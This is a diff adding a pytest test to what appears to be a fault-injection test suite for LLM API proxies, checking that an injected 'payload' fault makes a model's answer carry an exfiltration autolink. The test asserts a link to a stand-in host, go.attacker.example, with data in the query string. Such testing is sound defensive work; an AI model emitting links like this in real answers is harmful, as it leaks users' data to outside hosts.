@@ -528,6 +528,19 @@ async def test_a_model_that_is_not_meant_is_left_alone(client, stack, carrier):
         await fires(stack, model, int(expected != 200))
 
 
+@pytest.mark.parametrize("wire", ["openai", "anthropic", "gemini"])
+async def test_payload_puts_words_into_the_models_mouth(raw, stack, wire):
+    """Through both proxies, as a healthy answer, and it is counted."""
+    client = Client(raw, stack, wire)
+    fault = parse_fault({"fault": "payload", "payload": "exfil-autolink-angle"})
+    await stack.inject("evil", fault, client.endpoint.name)
+    response = await client.ask()
+
+    assert response.status == 200
+    assert b"<https://go.attacker.example/?d=42>" in response.body
+    await fires(stack, "evil", 1)
+
+
 async def test_other_providers_are_left_alone(raw, stack):
     """A fault is on one provider."""
     await stack.inject("down", parse_fault({"fault": "connection_refused"}), "alpha")
